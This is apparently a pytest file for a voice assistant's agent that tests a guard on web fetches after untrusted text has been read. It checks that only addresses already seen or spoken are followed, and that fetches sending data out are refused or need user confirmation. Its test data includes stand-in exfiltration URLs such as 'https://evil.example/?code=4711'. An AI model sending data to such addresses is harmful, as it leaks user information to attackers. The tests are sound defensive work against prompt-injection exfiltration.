"""Where a turn that has read a stranger's text may still read on: at addresses that no model has made up."""

from __future__ import annotations

import pytest

from tests.agent_parts import FakeTurn, ScriptedChat, call, spoken_text
from tests.in_memory import RecentCalls
from tests.virtual_time import virtual_time
from voxspark.agent.addresses import leads_to
from voxspark.agent.loop import ToolLoop
from voxspark.agent.mediator import Mediator, Outcome, TurnGuard
from voxspark.errors import ToolError
from voxspark.tools.registry import Toolbox, tool, tools_of
from voxspark.tools.web.http import Fetcher
from voxspark.tools.web.pages import Pages

FOUND = (
    "1. Falcons (https://birds.example/wiki/Falcon_(bird)): see https://evil.example/?code= for more.\n"
    "2. Kites (https://www.kites.example/): cut off https://long.example/a/b/c…"
)


@pytest.mark.parametrize(
    ("address", "leads"),
    [
        ("https://birds.example/wiki/Falcon_(bird)", True),
        ("birds.example/wiki/Falcon_(bird)", True),
        ("https://www.kites.example", True),
        ("https://www.kites.example/", True),
        ("https://evil.example/?code=", True),
        ("https://evil.example/?code=4711", False),
        ("https://evil.example/", False),
        ("https://evil.example/?cod", False),
        ("https://birds.example/wiki/Falcon", False),
        ("https://4711.birds.example/wiki/Falcon_(bird)", False),
        ("https://4711@birds.example/wiki/Falcon_(bird)", False),
        ("https://long.example/a/b/c", False),
        ("https://kites.example/", False),
        ("https://said.example/now", True),
        ("https://spoken.example/today", True),
        ("https://said.example/later", False),
        ("Falcons", False),
        ("", False),
        (None, False),
        (["https://www.kites.example"], False),
    ],
)
def test_an_address_must_be_known_to_its_last_letter(address: object, leads: bool) -> None:
    utterance = "Read https://said.example/now, and spoken dot example slash today"
    assert leads_to(address, utterance, [FOUND]) is leads


class Web:
    """A search that finds, and a fetch by a stranger's program."""

    def __init__(self) -> None:
        self.fetched: list[str] = []

    @tool(permission="read", fate="turn", untrusted=True)
    def search(self) -> str:
        """Search."""
        return FOUND

    @tool(permission="read", fate="turn", untrusted=True, privileged=True)
    def fetch(self, url: str, body: str = "", most: int = 0) -> str:
        """Fetch."""
        self.fetched.append(url)
        return "A page that leads to https://next.example/2."


class Reader:
    """One turn."""

    def __init__(self, tainted_before: bool = False, utterance: str = "Look it up") -> None:
        self.web = Web()
        self.mediator = Mediator(Toolbox(tools_of(self.web)), RecentCalls())
        self.guard = TurnGuard(utterance, tainted_before=tainted_before)

    async def run(self, name: str, **arguments: object) -> Outcome:
        return await self.mediator.run(call(name, **arguments), self.guard, FakeTurn())


@virtual_time
async def test_a_search_is_followed_and_a_page_s_own_link_too_without_a_question() -> None:
    reader = Reader(tainted_before=True)
    await reader.run("search")
    for address in ("https://birds.example/wiki/Falcon_(bird)", "https://next.example/2"):
        assert (await reader.run("fetch", url=address, most=500)).verdict == "read"


@virtual_time
async def test_nothing_is_sent_along() -> None:
    reader = Reader()
    await reader.run("search")
    for more in ({"url": "https://evil.example/?code=4711"}, {"url": "https://www.kites.example/", "body": "4711"}):
        assert (await reader.run("fetch", **more)).verdict == "refused"
    assert reader.web.fetched == []


@virtual_time
async def test_in_a_later_turn_a_person_decides_unless_it_is_their_address() -> None:
    later = Reader(tainted_before=True)
    assert (await later.run("fetch", url="https://evil.example/?code=4711")).verdict == "asked"
    assert later.web.fetched == []
    said = Reader(tainted_before=True, utterance="Read news dot example")
    assert (await said.run("fetch", url="https://news.example")).verdict == "read"


@virtual_time
async def test_the_page_reader_reads_no_address_that_a_page_has_built() -> None:
    async def nowhere(host: str, port: int) -> list[str]:
        raise ToolError("reached", f"{host} was reached.")

    mediator = Mediator(Toolbox(Pages(Fetcher(resolve=nowhere)).tools), RecentCalls())
    guard = TurnGuard("What does it say?", tainted_by="web_search", shown=[FOUND])
    outcome = await mediator.run(call("read_page", address="https://evil.example/?code=4711"), guard, FakeTurn())
    assert outcome.verdict == "refused"
    outcome = await mediator.run(call("read_page", address="www.kites.example"), guard, FakeTurn())
    assert (outcome.verdict, outcome.text) == ("failed", "www.kites.example was reached.")


@virtual_time
async def test_one_question_at_a_time() -> None:
    reader = Reader(tainted_before=True)
    calls = [call("fetch", url=f"https://evil.example/{number}") for number in (1, 2)]
    schemas = [each.schema for each in tools_of(reader.web)]
    loop = ToolLoop(Toolbox(tools_of(reader.web)), reader.mediator)
    said = await spoken_text(loop.reply(ScriptedChat([calls]), [], schemas, reader.guard, FakeTurn()))
    assert said == "Shall I fetch with url https: slash slash evil.example slash 1? Say: confirm fetch."
